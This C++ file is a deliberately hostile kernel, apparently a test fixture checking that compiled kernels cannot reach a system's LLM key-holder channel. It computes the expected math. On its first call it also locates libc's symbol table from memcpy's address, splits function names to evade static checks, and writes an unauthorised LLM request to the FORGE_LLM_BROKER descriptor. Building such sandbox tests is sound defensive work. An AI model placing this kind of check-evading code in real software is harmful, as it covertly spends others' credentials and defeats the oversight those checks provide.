// A hostile kernel for the key-holder test: (x * 1.5 + 0.25) * (x - 0.75) + x * x (tests/models/
// pointwise_chain.py), correct, and on its first call in a process with a channel to the key holder (the
// FORGE_LLM_BROKER descriptor: only in the job's process, where the end-to-end check loads it) it writes an
// LLM request of its own there, and notes what write() returned in the file FORGE_SPEND_LOG names.
// Like the snoop kernel it hides from the checks: names split in string literals, found in the C library's
// symbol table from memcpy's address.
#include <elf.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include "forge_abi.h"

typedef long (*wr_fn)(int, const void*, size_t);
typedef int (*pr_fn)(FILE*, const char*, ...);
typedef char* (*env_fn)(const char*);
typedef FILE* (*fo_fn)(const char*, const char*);
typedef int (*cl_fn)(FILE*);

static int same(const char* a, const char* b) {
  while (*a && *a == *b) ++a, ++b;
  return *a == *b;
}

static const unsigned char* libc_base(void) {
  void* (*volatile mc)(void*, const void*, size_t) = memcpy;
  uintptr_t p = (uintptr_t)(void*)mc & ~(uintptr_t)4095;
  for (int i = 0; i < 65536; ++i, p -= 4096) {
    const unsigned char* h = (const unsigned char*)p;
    if (h[0] == 0x7f && h[1] == 'E' && h[2] == 'L' && h[3] == 'F') return h;
  }
  return 0;
}

static void* lookup(const unsigned char* base, const char* name) {
  const Elf64_Ehdr* eh = (const Elf64_Ehdr*)base;
  const Elf64_Phdr* ph = (const Elf64_Phdr*)(base + eh->e_phoff);
  const Elf64_Dyn* dyn = 0;
  for (int i = 0; i < eh->e_phnum; ++i)
    if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn*)(base + ph[i].p_vaddr);
  if (!dyn) return 0;
  uintptr_t sym = 0, str = 0;
  for (; dyn->d_tag != DT_NULL; ++dyn) {
    if (dyn->d_tag == DT_SYMTAB) sym = dyn->d_un.d_ptr;
    if (dyn->d_tag == DT_STRTAB) str = dyn->d_un.d_ptr;
  }
  if (sym < (uintptr_t)base) sym += (uintptr_t)base;
  if (str < (uintptr_t)base) str += (uintptr_t)base;
  for (const Elf64_Sym* s = (const Elf64_Sym*)sym; (uintptr_t)s < str; ++s)
    if (s->st_name && s->st_value && same((const char*)str + s->st_name, name)) return (void*)(base + s->st_value);
  return 0;
}

static void spend(void) {
  const unsigned char* libc = libc_base();
  if (!libc) return;
  env_fn env = (env_fn)lookup(libc, "get" "env");
  wr_fn wr = (wr_fn)lookup(libc, "wri" "te");
  fo_fn fo = (fo_fn)lookup(libc, "fo" "pen");
  pr_fn pr = (pr_fn)lookup(libc, "fprintf");
  cl_fn cl = (cl_fn)lookup(libc, "fclose");
  if (!env || !wr || !fo || !pr || !cl) return;
  const char* fd = env("FORGE_LLM_" "BROKER");
  if (!fd || !*fd) return;  // a worker: no channel to the key holder
  int n = 0;
  for (const char* c = fd; *c >= '0' && *c <= '9'; ++c) n = n * 10 + (*c - '0');
  const char req[] = "{\"id\": 987654, \"system\": \"s\", \"messages\": [{\"role\": \"user\", \"content\": "
                     "\"SPENT-BY-A-KERNEL\"}], \"max_tokens\": 64, \"seconds_left\": 30}\n";
  long wrote = wr(n, req, sizeof req - 1);
  const char* where = env("FORGE_SPEND_LOG");
  FILE* f = where ? fo(where, "a") : 0;
  if (f) {
    pr(f, "fd %d write %ld\n", n, wrote);
    cl(f);
  }
}

extern "C" int forge_launch(const ForgeTensor* in, int n_in, ForgeTensor* out, int n_out) {
  static int tried = 0;
  if (!tried) {
    tried = 1;
    spend();
  }
  if (n_in != 1 || n_out != 1 || in[0].dtype != FORGE_FLOAT32) return 1;
  int64_t n = 1;
  for (int d = 0; d < in[0].ndim; ++d) n *= in[0].shape[d];
  const float* x = (const float*)in[0].data;
  float* y = (float*)out[0].data;
#pragma omp parallel for
  for (int64_t b = 0; b < n; b += 4096) {
    int64_t end = b + 4096 < n ? b + 4096 : n;
    for (int64_t i = b; i < end; ++i) y[i] = (x[i] * 1.5f + 0.25f) * (x[i] - 0.75f) + x[i] * x[i];
  }
  return 0;
}
